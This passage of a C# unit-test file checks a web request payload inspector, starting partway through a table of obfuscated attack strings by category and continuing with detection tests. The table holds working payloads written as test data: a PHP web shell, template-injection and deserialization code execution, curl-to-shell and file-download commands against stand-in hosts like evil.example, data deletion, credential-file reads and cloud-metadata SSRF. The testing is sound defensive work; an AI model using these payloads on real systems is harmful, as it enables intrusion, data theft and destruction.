        { "<?php system($_GET['c']); ?>", InspectionCategory.Code },
        { "{\"__proto__\": {\"isAdmin\": true}}", InspectionCategory.Code },
        { "eyJfX3Byb3RvX18iOiB7ImlzQWRtaW4iOiB0cnVlfX0=", InspectionCategory.Code },
        { "https://files.example.net/wso.php", InspectionCategory.Rfi },
        { "//files.example.net/r57.txt", InspectionCategory.Rfi },
        { "http://files.example.net/upload/up.php?exec=uname", InspectionCategory.Rfi },
        { "\\\\files.example.net\\share\\c99.php", InspectionCategory.Rfi },
        { "%{(#a=@java.lang.Runtime@getRuntime().exec('id'))}", InspectionCategory.Ssti },
        { "[System.Diagnostics.Process]::Start('calc.exe')", InspectionCategory.Code },
        { "(|(cn=*)(userPassword=*))", InspectionCategory.Ldapi },
        { "(&(cn=admin)(|(2=2)(mail=x)))", InspectionCategory.Ldapi },
        { "*))(objectClass=*", InspectionCategory.Ldapi },
        { "en\r\n\r\n<script>alert(1)</script>", InspectionCategory.Crlf },
        { "report.pdf; reboot", InspectionCategory.Cmdi },
        { "10.0.0.1\nid", InspectionCategory.Cmdi },
        { "\nsleep 5", InspectionCategory.Cmdi },
        { "-o ProxyCommand='curl evil.example|sh' host", InspectionCategory.Cmdi },
        { "\"-top['con'+'firm'](1)-\"", InspectionCategory.Xss },
        { "http://169。254。169。254/computeMetadata/v1/", InspectionCategory.Ssrf },
        { "http://0a000001.7f000001.rbndr.us:8080/", InspectionCategory.Ssrf },
        { "\"; return this.role == 'admin'; var y=\"", InspectionCategory.Nosqli },
        { "a\u560d\u560aHost: evil.example", InspectionCategory.Crlf },
        { "jsmith\r\n2025-01-02T03:04:05Z ERROR payment refunded for jsmith", InspectionCategory.Crlf },
        { "jdbc:h2:mem:test;INIT=RUNSCRIPT FROM 'http://evil.example/a.sql'", InspectionCategory.Code },
        { "AAEAAAD/////AQAAAAAAAAAMAgAAAFdTeXN0ZW0u", InspectionCategory.Code },
        { "!ruby/hash:ActionController::Routing::RouteSet::NamedRouteCollection", InspectionCategory.Code },
        { "=DDEAUTO(\"powershell\";\"-c iwr evil.example\";\"a\")", InspectionCategory.Code },
        { "db.getCollection(\"accounts\").remove({})", InspectionCategory.Nosqli },
        { "Hi\u2028Set-Cookie: role=admin", InspectionCategory.Crlf },
        { "backup_`whoami`.tar", InspectionCategory.Cmdi },
        { "http://files.example.net/lib/loader.php?cfg=", InspectionCategory.Rfi },
        { "<form action=//collect.example/p><input type=password name=pw></form>", InspectionCategory.Xss },
        { "ftp://files.example.net/inc/config.php", InspectionCategory.Rfi },
        { "template=https://files.example.net/t/main.php", InspectionCategory.Rfi },
        { "ops@example.com\nRCPT TO:<list@example.net>", InspectionCategory.Crlf },
        { "Jo\u560aBcc: all@example.org", InspectionCategory.Crlf },
        { "http://partner.example.com#@169.254.169.254/latest/meta-data/", InspectionCategory.Ssrf },
        { "https://cdn.example.com/fetch?src=http://127.0.0.1:2375/containers/json", InspectionCategory.Ssrf },
        { "http:\\\\169.254.169.254\\latest", InspectionCategory.Ssrf },
        { "<input autofocus ng-focus=\"$event.view.alert(1)\">", InspectionCategory.Xss },
        { "<form name=getElementsByTagName><img name=attributes>", InspectionCategory.Xss },
        { "[{\"$match\": {}}, {\"$merge\": \"admins\"}]", InspectionCategory.Nosqli },
        { "alice\n10.1.2.3 - root [05/Dec/2026:10:00:00 +0000] \"GET /admin HTTP/1.1\" 200", InspectionCategory.Crlf },
        { "x\u560a\u560d\u560a\u560d<html>owned</html>", InspectionCategory.Crlf },
        { "''.__class__.__mro__[1].__subclasses__()", InspectionCategory.Code },
        { "q[constructor][prototype][isAdmin]=1", InspectionCategory.Code },
        { "\"whoami\".execute().text", InspectionCategory.Code },
        { "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}", InspectionCategory.Ssti },
        { "--checkpoint=1 --checkpoint-action=exec=sh x.sh", InspectionCategory.Cmdi },
        { "{\"where\":\"region = 'eu' OR 1=1 --\",\"take\":10}", InspectionCategory.Sqli },
        { "query { users(where: \"{\\\"role\\\":{\\\"$ne\\\":\\\"x\\\"}}\") { id } }", InspectionCategory.Nosqli },
        { "http://billing.svc.cluster.local:8080/admin", InspectionCategory.Ssrf },
        { "1 𝐔𝐍𝐈𝐎𝐍 𝐒𝐄𝐋𝐄𝐂𝐓 𝐩𝐚𝐬𝐬𝐰𝐨𝐫𝐝 𝐅𝐑𝐎𝐌 𝐮𝐬𝐞𝐫𝐬", InspectionCategory.Sqli },
        { "http://ⓜⓔⓣⓐⓓⓐⓣⓐ.ⓖⓞⓞⓖⓛⓔ.ⓘⓝⓣⓔⓡⓝⓐⓛ/computeMetadata/v1/", InspectionCategory.Ssrf },
        { "<ſvg onload=alert(1)>", InspectionCategory.Xss },
        { "\";con\u034ffirm(1);//", InspectionCategory.Xss },
        { "Re: order 1182\r\nBcc: list@example.net\r\nSubject: hi", InspectionCategory.Crlf },
        { "7; db.dropDatabase()", InspectionCategory.Nosqli },
        { "x;sleep 7;#", InspectionCategory.Cmdi },
        { "notes.txt && del /s /q C:\\data\\*", InspectionCategory.Cmdi },
        { "<?xml version=\"1.0\" encoding=\"UTF-7\"?>+ADw-!DOCTYPE x +AFs-+ADw-!ENTITY y SYSTEM +ACI-file:///etc/passwd+ACI-+AD4-+AF0-+AD4-", InspectionCategory.Xxe },
        { "Great service! <img src=//a1b2c3.oast.fun/p.png>", InspectionCategory.Ssrf },
        { "https://q7w8e9.oastify.com/cb", InspectionCategory.Ssrf },
        { "ok\u001b[2K\u001b[1AUser root logged in", InspectionCategory.Crlf },
        { "svc-backup\n2026-01-02T03:04:05Z backup verified", InspectionCategory.Crlf },
        { "Eve\nWARN 2026-01-02 quota raised for eve", InspectionCategory.Crlf },
        { "2; return this.balance > 0", InspectionCategory.Nosqli },
        { "--output=/var/www/app/public/x.php http://evil.example/x", InspectionCategory.Cmdi },
        { "[% USE f = File('/etc/passwd') %]", InspectionCategory.Ssti },
        { "http://cdn.127.0.0.1.nip.io/", InspectionCategory.Ssrf },
        { "/actuator/heapdump", InspectionCategory.Lfi },
        { "/cgi-bin/../../bin/sh", InspectionCategory.Lfi },
        { "../config.php", InspectionCategory.Lfi },
        { "; ca? /e??/pa*wd", InspectionCategory.Cmdi },
        { "x|wh?ami", InspectionCategory.Cmdi },
        { "{\"note\":\"en\\r\\nX-Forwarded-For: 127.0.0.1\"}", InspectionCategory.Crlf },
        { "${7*'7'}", InspectionCategory.Ssti },
        { "jdoe\r\nSubject: reset your password", InspectionCategory.Crlf },
        { "\r=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", InspectionCategory.Code },
        { "ping -c 1 a9x8.oastify.com", InspectionCategory.Ssrf },
        { "\\\\q1w2.oast.pro\\share\\x", InspectionCategory.Ssrf },
        { "sftp://files.example.net:2222/", InspectionCategory.Ssrf },
        { "cat ${HOME:0:1}etc${HOME:0:1}shadow; ${PATH:0:1}bin", InspectionCategory.Cmdi },
        { "x; $0 -c 'id'", InspectionCategory.Cmdi },
        { "http:/\\/\\169.254.169.254/latest/", InspectionCategory.Ssrf },
        { "Subject: Marks\r\nBcc: list@evil.example", InspectionCategory.Crlf },
        { "a=i;b=d;$a$b", InspectionCategory.Cmdi },
        { "x; ${c}${d} /etc/hosts", InspectionCategory.Cmdi },
        { ";wh$1oami", InspectionCategory.Cmdi },
        { "& (\"{1}{0}\" -f 'ami','who')", InspectionCategory.Cmdi },
        { "iex (\"{0}{1}\" -f 'who','ami')", InspectionCategory.Cmdi },
        { "http://evil.example/c.txt??", InspectionCategory.Rfi },
        { "process.env", InspectionCategory.Code },
        { "/home/app/.git/config", InspectionCategory.Lfi },
        { "cmd/c whoami", InspectionCategory.Cmdi },
        { "great post `cat /etc/passwd` thanks a lot", InspectionCategory.Lfi },
        { "see `curl http://evil.example/x.sh | sh` for details", InspectionCategory.Cmdi },
        { "${{7*7}}", InspectionCategory.Ssti },
        { "x\nnpm exec --yes evil-pkg", InspectionCategory.Cmdi },
        { "data:application/pdf;base64,PD9waHAgc3lzdGVtKCRfR0VUW2NdKTsgPz4=", InspectionCategory.Code },
        { "sensor ok\n2024-05-01 12:00:00 INFO admin login succeeded from 10.0.0.1", InspectionCategory.Crlf },
        { "jsmith\u560A2025-06-01 12:00:00 INFO auth success user=admin", InspectionCategory.Crlf },
        { "x; id; whoami", InspectionCategory.Cmdi },
        { "${cmd}", InspectionCategory.Cmdi },
        { "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", InspectionCategory.Lfi },
        { "admin' or string-length(//employee[1]/salary)>5 or 'a'='b", InspectionCategory.Sqli },
        { "<esi:include src=\"http://evil.example/esi\"/>", InspectionCategory.Code },
        { "<!--#exec cmd=\"id\"-->", InspectionCategory.Code },
        { "{!join from=owner_id to=id fromIndex=users}password:*", InspectionCategory.Code },
        { "{\"script\":{\"lang\":\"painless\",\"source\":\"params._source.password\"}}", InspectionCategory.Code },
        { "-c core.pager='sh -c id' log", InspectionCategory.Cmdi },
        { "--use-compress-program=sh -c 'id>/tmp/o'", InspectionCategory.Cmdi },
        { "/./proc/./self/environ", InspectionCategory.Lfi },
        { "/var/lib/jenkins/secrets/master.key", InspectionCategory.Lfi },
        { "\\' OR 1=1-- -", InspectionCategory.Sqli },
        { "gAJjcG9zaXgKc3lzdGVtCnEAWB8AAABjdXJsIC1zIGh0dHA6Ly9ldmlsLnRsZC9wLnNofHNocQGFcQJScQMu", InspectionCategory.Code },
        { "{% debug %}", InspectionCategory.Ssti },
        { "{%print(7*7)%}", InspectionCategory.Ssti },
        { "smb://evil.example/share/inc.php", InspectionCategory.Rfi },
        { "a@b.c\u560ASubject: you won", InspectionCategory.Crlf },
        { "{\"$or\": [{}, {\"a\": \"a\"}]}", InspectionCategory.Nosqli },
        { "{\"$or\": [{\"role\": \"admin\"}, {\"1\": \"1\"}]}", InspectionCategory.Nosqli },
        { "\u202bscore=1,is_admin=1 WHERE name='me'-- \u2069", InspectionCategory.Sqli },
        { "/etc/[!abc]asswd", InspectionCategory.Lfi },
        { "/sys/class", InspectionCategory.Lfi },
        { "{{ cycler.__init__.__globals__.os.popen('id').read() }}", InspectionCategory.Ssti },
        { "{{ _self.env.registerUndefinedFilterCallback('exec') }}", InspectionCategory.Ssti },
        { "<img src=\"https://attacker.example/log?html=", InspectionCategory.Xss },
        { "//evil.example/inc.php", InspectionCategory.Rfi },
        { "10.0.0.1;nvram get http_passwd", InspectionCategory.Cmdi },
        { "x -o /var/www/html/shell.php http://attacker.example/shell.txt", InspectionCategory.Cmdi },
        { "{% assign x = 'id' %}{{ x | system }}", InspectionCategory.Ssti },
        { "<?xml-stylesheet type=\"text/xsl\" href=\"http://attacker.example/x.xsl\"?><item/>", InspectionCategory.Xxe },
        { "sensor-1\nDec  5 12:00:00 gw-01 sshd[1]: Accepted password for root from 10.0.0.99", InspectionCategory.Crlf },
        { "boiler\n<13>1 2026-12-05T12:00:00Z gw-01 auth - - - admin login ok", InspectionCategory.Crlf },
        { "user\\r\\nBcc: victim@plant.example", InspectionCategory.Crlf },
        { "-5 UNION SELECT username||':'||password FROM users--", InspectionCategory.Sqli },
        { "out.pdf' ; whoami ; '", InspectionCategory.Cmdi },
        { "x ; whoami ; y", InspectionCategory.Cmdi },
        { "' union select 'x y' from the_users--", InspectionCategory.Sqli },
        { "please read ../../../../etc/passwd for me now", InspectionCategory.Lfi },
        { "~/.bashrc", InspectionCategory.Lfi },
        { "x;python3.11 -c 'import os'", InspectionCategory.Cmdi },
    };

    [Theory]
    [MemberData(nameof(HardBenign))]
    public void Inspect_HardBenignValue_IsNotAnAttackAtParanoia1(string value)
    {
        Span<InspectionFinding> findings = stackalloc InspectionFinding[8];
        var verdict = _inspector.Inspect(value.AsSpan(), new InspectionSettings(), findings);
        Assert.False(PayloadInspector.IsAttack(verdict), $"score {verdict.Score}, rules {Rules(findings[..verdict.FindingCount])}");
    }

    [Theory]
    [MemberData(nameof(Attacks))]
    public void Inspect_ObfuscatedAttack_IsDetectedWithItsCategory(string value, InspectionCategory category)
    {
        Span<InspectionFinding> findings = stackalloc InspectionFinding[16];
        var verdict = _inspector.Inspect(Encoding.UTF8.GetBytes(value), new InspectionSettings(), findings);
        Assert.True(PayloadInspector.IsAttack(verdict), $"score {verdict.Score} for {value}");
        var found = findings[..verdict.FindingCount].ToArray();
        Assert.Contains(found, f => f.Category == category);
    }

    [Fact]
    public void Inspect_QueryValueWithPlusAndDoubleEncoding_DecodesPlusAsSpace()
    {
        Span<InspectionFinding> findings = stackalloc InspectionFinding[8];
        var verdict = _inspector.Inspect("1%27+or+%271%27%3D%271".AsSpan(), new InspectionSettings(ValueSource.Query), findings);
        Assert.True(PayloadInspector.IsAttack(verdict));
        Assert.True((verdict.Layers & DecodingLayers.PlusAsSpace) != 0);
        Assert.True((verdict.Layers & DecodingLayers.Url) != 0);
    }

    [Fact]
    public void Inspect_TripleEncodedValue_ReportsLayersAndDoubleEncoding()
    {
        Span<InspectionFinding> findings = stackalloc InspectionFinding[8];
        var verdict = _inspector.Inspect("%25253Cscript%25253Ealert(1)".AsSpan(), new InspectionSettings(ParanoiaLevel: 2), findings);
        Assert.True((verdict.Layers & DecodingLayers.DoubleUrl) != 0);
        Assert.Contains(findings[..verdict.FindingCount].ToArray(), f => f.Category == InspectionCategory.Xss);
        Assert.Contains(findings[..verdict.FindingCount].ToArray(), f => f.RuleId == 920140);
    }

    [Fact]
    public void Inspect_ExcessivelyNestedEncoding_IsAFinding()
    {
        var value = "a";
        for (var i = 0; i < 6; i++)
        {
            value = Uri.EscapeDataString(value + "%");
        }

        Span<InspectionFinding> findings = stackalloc InspectionFinding[8];
        var verdict = _inspector.Inspect(value.AsSpan(), new InspectionSettings(), findings);
        Assert.Contains(findings[..verdict.FindingCount].ToArray(), f => f.RuleId == 920130 && f.Category == InspectionCategory.Encoding);
    }

    [Fact]
    public void Inspect_InvalidAndOverlongUtf8_AreFlaggedAsEncoding()
    {
        Span<InspectionFinding> findings = stackalloc InspectionFinding[8];
        var invalid = _inspector.Inspect(new byte[] { (byte)'a', 0xFF, 0xFE, (byte)'b' }, new InspectionSettings(), findings);
        Assert.Contains(findings[..invalid.FindingCount].ToArray(), f => f.RuleId == 920100);

        var overlong = _inspector.Inspect(new byte[] { 0xC0, 0xAE, 0xC0, 0xAE, (byte)'/', 0xC0, 0xAE, 0xC0, 0xAE, (byte)'/', (byte)'e', (byte)'t', (byte)'c', (byte)'/', (byte)'p', (byte)'a', (byte)'s', (byte)'s', (byte)'w', (byte)'d' }, new InspectionSettings(), findings);
        var found = findings[..overlong.FindingCount].ToArray();
        Assert.Contains(found, f => f.RuleId == 920110);
        Assert.Contains(found, f => f.Category == InspectionCategory.Lfi);
    }

    [Fact]
    public void Inspect_NulByte_IsFlaggedButAloneNotAnAttack()
    {
        Span<InspectionFinding> findings = stackalloc InspectionFinding[8];
        var verdict = _inspector.Inspect("file\0name".AsSpan(), new InspectionSettings(), findings);
        Assert.Contains(findings[..verdict.FindingCount].ToArray(), f => f.RuleId == 920120);
        Assert.False(PayloadInspector.IsAttack(verdict));
    }

    [Fact]
    public void Inspect_NoSqlOperatorAsJsonPropertyName_IsDetected()
    {
        Span<InspectionFinding> findings = stackalloc InspectionFinding[8];
        var verdict = _inspector.Inspect("$where".AsSpan(), new InspectionSettings(ValueSource.JsonPropertyName), findings);
        Assert.Contains(findings[..verdict.FindingCount].ToArray(), f => f.Category == InspectionCategory.Nosqli);
        var name = _inspector.Inspect("user[$ne]".AsSpan(), new InspectionSettings(ValueSource.Query), findings);
        Assert.True(PayloadInspector.IsAttack(name));
    }

    [Fact]
    public void Inspect_CrlfInHeaderValue_IsAlwaysAFinding()
    {
        Span<InspectionFinding> findings = stackalloc InspectionFinding[8];
        var header = _inspector.Inspect("abc\r\nfoo".AsSpan(), new InspectionSettings(ValueSource.Header), findings);
        Assert.Contains(findings[..header.FindingCount].ToArray(), f => f.Category == InspectionCategory.Crlf);
        var text = _inspector.Inspect("line one\nline two".AsSpan(), new InspectionSettings(ValueSource.JsonValue), findings);
        Assert.False(text.HasFindings);
    }

    [Fact]
    public void Inspect_FindingsSpanTooSmall_ScoreStillCountsEveryFinding()
    {
        const string value = "<script>alert(document.cookie)</script>' OR 1=1-- ; cat /etc/passwd";
        Span<InspectionFinding> many = stackalloc InspectionFinding[32];
        var full = _inspector.Inspect(value.AsSpan(), new InspectionSettings(), many);
        var none = _inspector.Inspect(value.AsSpan(), new InspectionSettings(), []);
        Assert.True(full.FindingCount >= 3);
        Assert.Equal(0, none.FindingCount);
        Assert.Equal(full.Score, none.Score);
    }

    [Fact]
    public void Inspect_UndecodedValue_ReportsExactOffsets()
    {
        const string value = "hello <script>alert(1)</script>";
        Span<InspectionFinding> findings = stackalloc InspectionFinding[8];
        var verdict = _inspector.Inspect(value.AsSpan(), new InspectionSettings(), findings);
        var tag = findings[..verdict.FindingCount].ToArray().First(f => f.RuleId == 941110);
        Assert.Equal(6, tag.Offset);
        Assert.Equal(DecodingLayers.None, tag.Layers);
    }

    [Fact]
    public void Inspect_ParanoiaLevel_GatesHigherLevelRules()
    {
        Span<InspectionFinding> findings = stackalloc InspectionFinding[8];
        const string value = "see <b>this</b>";
        var pl1 = _inspector.Inspect(value.AsSpan(), new InspectionSettings(ParanoiaLevel: 1), findings);
        var pl3 = _inspector.Inspect(value.AsSpan(), new InspectionSettings(ParanoiaLevel: 3), findings);
        Assert.False(pl1.HasFindings);
        Assert.True(pl3.HasFindings);
        Assert.All(findings[..pl3.FindingCount].ToArray(), f => Assert.True(f.ParanoiaLevel <= 3));
    }

    [Fact]
    public void Inspect_IdentifierField_OnlyAllowsIdentifierCharacters()
    {
        Span<InspectionFinding> findings = stackalloc InspectionFinding[8];
        var ok = _inspector.Inspect("order-42_a.b:c".AsSpan(), new InspectionSettings(FieldType: FieldType.Identifier), findings);
        var bad = _inspector.Inspect("42 OR 1".AsSpan(), new InspectionSettings(FieldType: FieldType.Identifier), findings);
        Assert.False(ok.HasFindings);
        Assert.True(PayloadInspector.IsAttack(bad));
        Assert.Equal(920200, findings[0].RuleId);
    }

    [Fact]
    public void Inspect_Base64Field_DecodesAndFlagsNonBase64()
    {
        Span<InspectionFinding> findings = stackalloc InspectionFinding[8];
        var encoded = Convert.ToBase64String(Encoding.UTF8.GetBytes("<script>alert(1)</script>"));
        var attack = _inspector.Inspect(encoded.AsSpan(), new InspectionSettings(FieldType: FieldType.Base64), findings);
        Assert.True(PayloadInspector.IsAttack(attack));
        Assert.True((attack.Layers & DecodingLayers.Base64) != 0);

        var notBase64 = _inspector.Inspect("not base64 at all!".AsSpan(), new InspectionSettings(FieldType: FieldType.Base64), findings);
        Assert.Contains(findings[..notBase64.FindingCount].ToArray(), f => f.RuleId == 920200);

        var plain = _inspector.Inspect(Convert.ToBase64String(Encoding.UTF8.GetBytes("just a note")).AsSpan(), new InspectionSettings(FieldType: FieldType.Base64), findings);
        Assert.False(plain.HasFindings);
    }

    [Fact]
    public void Inspect_UrlField_StillFindsSsrfButNotSqlProse()
    {
        Span<InspectionFinding> findings = stackalloc InspectionFinding[8];
        var ssrf = _inspector.Inspect("http://localhost:8080/admin".AsSpan(), new InspectionSettings(FieldType: FieldType.Url), findings);
        Assert.True(PayloadInspector.IsAttack(ssrf));
        var url = _inspector.Inspect("https://example.com/?q=1' or '1'='1".AsSpan(), new InspectionSettings(FieldType: FieldType.Url), findings);
        Assert.False(url.HasFindings);
    }

    [Theory]
    [InlineData("/???/??t /???/p??s??", true)]
    [InlineData("cat /e?c/pa*swd", true)]
    [InlineData("/e[t]c/pa[s]swd", true)]
    [InlineData("x;/u'sr'/b?n/ nc", true)]
    [InlineData("'/bin/b'\\a?h", true)]
    [InlineData("/etc/passwd", false)]
    [InlineData("/api/v1/items?page=2&sort=*", false)]
    [InlineData("/images/[2024]/cat.png", false)]
    [InlineData("SELECT /* all */ * FROM t /**/", false)]
    public void Inspect_ShellGlobSpellingASensitivePath_FiresGlobRuleOnly(string value, bool expected) => AssertRuleFires(value, 930140, expected);

    [Theory]
    [InlineData("O:8:\"stdClass\":0:{}", true)]
    [InlineData("data=a:2:{i:0;s:1:\"x\";i:1;s:1:\"y\";}", true)]
    [InlineData("x C:12:\"ArrayObject\":1:{}", true)]
    [InlineData("meet at 10:30, room a:2", false)]
    [InlineData("ratio a:2 b:3 c:4", false)]
    [InlineData("Java:17:\"x\"", false)]
    [InlineData("a:{\"b\":1}", false)]
    public void Inspect_PhpSerializedObject_FiresSerializedRuleOnly(string value, bool expected) => AssertRuleFires(value, 933170, expected);

    [Fact]
    public void Inspect_EmptyValue_HasNoFindings()
    {
        Assert.False(_inspector.Inspect(ReadOnlySpan<char>.Empty, new InspectionSettings(), []).HasFindings);
        Assert.False(_inspector.Inspect(ReadOnlySpan<byte>.Empty, new InspectionSettings(), []).HasFindings);
    }

    private void AssertRuleFires(string value, int ruleId, bool expected)
    {
        Span<InspectionFinding> findings = stackalloc InspectionFinding[16];
        var verdict = _inspector.Inspect(value.AsSpan(), new InspectionSettings(), findings);
        var fired = findings[..verdict.FindingCount].ToArray().Any(f => f.RuleId == ruleId);
        Assert.True(expected == fired, $"{value}: {Rules(findings[..verdict.FindingCount])}");
    }

    private static string Rules(ReadOnlySpan<InspectionFinding> findings)
    {
        var sb = new StringBuilder();
        foreach (var f in findings)
        {
            sb.Append(f.RuleId).Append(' ');
        }

        return sb.ToString();
    }
}
